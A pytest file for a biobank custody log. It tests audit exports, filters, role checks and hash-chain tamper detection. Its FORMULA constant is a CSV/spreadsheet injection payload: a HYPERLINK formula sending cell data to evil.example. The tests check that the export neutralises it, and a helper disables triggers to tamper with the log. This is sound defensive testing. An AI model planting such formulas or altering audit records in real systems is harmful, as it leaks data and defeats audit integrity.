"""The custody log: export (CSV safe for spreadsheets, JSON, NDJSON), filters, verification runs."""
import csv
import io
import json

import pytest
from sqlalchemy import func, select, text

from biobank.core.errors import NotPermitted
from biobank.custody.models import CustodyEvent
from biobank.extensions import db
from biobank.reports import audit_export, service
from biobank.samples import service as samples

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _event_count():
    return db.session.execute(select(func.count()).select_from(CustodyEvent)).scalar_one()


@pytest.fixture
def history(make):
    """A few events, one of them with a formula in its reason."""
    box = make.box(rows=3, cols=3)
    make.sample("AUD-1", box=box, position="A1", notes=FORMULA)
    make.sample("AUD-2", box=box, position="A2")
    samples.move_sample(make.admin, "AUD-1", container_id=box.id, position="B1", reason=FORMULA)
    db.session.commit()
    return box


def test_csv_export_neutralises_spreadsheet_formulas(make, api, history):
    response = api("manager").get("/audit/export?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == _event_count()
    moved = next(r for r in rows if r["action"] == "sample.moved")
    assert moved["reason"] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
    assert [int(r["seq"]) for r in rows] == sorted(int(r["seq"]) for r in rows)
    # the sample search export keeps the same promise for notes
    exported = api("manager").get("/samples?format=csv").get_data(as_text=True)
    notes = next(r for r in csv.DictReader(io.StringIO(exported)) if r["barcode"] == "AUD-1")["notes"]
    assert notes == "'" + FORMULA


def test_json_and_ndjson_exports_carry_exact_values_and_hashes(make, api, history):
    client = api("technician")
    array = client.get("/audit/export?format=json")
    assert array.status_code == 200 and array.mimetype == "application/json"
    events = json.loads(array.get_data(as_text=True))
    assert len(events) == _event_count()
    moved = next(e for e in events if e["action"] == "sample.moved")
    assert moved["reason"] == FORMULA and moved["changes"]["location"][1].endswith("B1")
    assert all(len(e["hash"]) == 64 for e in events) and events[1]["prev_hash"] == events[0]["hash"]
    lines = client.get("/audit/export?format=ndjson").get_data(as_text=True).splitlines()
    assert [json.loads(line) for line in lines] == events


def test_export_filters_and_keyset_batches(make, api, history):
    filtered = api("manager").get("/audit/export?format=json&sample=AUD-1&action=sample.moved").get_data(as_text=True)
    assert [e["sample_barcode"] for e in json.loads(filtered)] == ["AUD-1"]
    today = db.session.execute(select(func.max(CustodyEvent.at))).scalar_one().date().isoformat()
    whole_day = json.loads(api("manager").get(f"/audit/export?format=json&since={today}&until={today}")
                           .get_data(as_text=True))
    assert len(whole_day) == _event_count()
    assert json.loads(api("manager").get("/audit/export?format=json&until=2000-01-01").get_data(as_text=True)) == []
    assert api("manager").get("/audit/export?format=xml").status_code == 422
    assert api("manager").get("/audit/export?since=yesterday").status_code == 422
    # batches of two still give every event once, in order
    chunks = list(audit_export.export(make.actor("manager"), {}, "ndjson", batch=2))
    seqs = [json.loads(line)["seq"] for chunk in chunks for line in chunk.splitlines()]
    assert seqs == list(range(1, _event_count() + 1)) and len(chunks) >= 3


def test_export_and_log_roles(make, api, history):
    assert api("researcher").get("/audit/export").status_code == 403
    assert api("researcher").get("/audit").status_code == 403
    with pytest.raises(NotPermitted):
        audit_export.export(make.actor("researcher"), {}, "csv")


def _tamper(sql):
    if db.engine.dialect.name == "postgresql":
        db.session.execute(text("ALTER TABLE custody_event DISABLE TRIGGER USER"))
    db.session.execute(text(sql))
    if db.engine.dialect.name == "postgresql":
        db.session.execute(text("ALTER TABLE custody_event ENABLE TRIGGER USER"))
    db.session.commit()


def test_verification_runs_are_recorded_with_their_result(make, api, history):
    client = api("technician")
    assert client.get("/audit/verifications").json == []
    run = client.post("/audit/verifications")
    assert run.status_code == 201 and run.json["ok"] is True
    assert run.json["events_checked"] == _event_count() - 1  # the run's own event comes after the check
    last = db.session.execute(select(CustodyEvent).order_by(CustodyEvent.seq.desc()).limit(1)).scalar_one()
    assert last.action == "audit.verified" and last.actor == run.json["actor"]

    _tamper("UPDATE custody_event SET reason = 'nothing happened' WHERE seq = 3")
    broken = service.record_verification(make.actor("manager"))
    db.session.commit()
    assert not broken.ok and broken.first_bad_seq == 3 and "changed" in broken.problem
    runs = client.get("/audit/verifications").json
    assert [r["ok"] for r in runs] == [False, True]
    assert api("researcher").post("/audit/verifications").status_code == 403
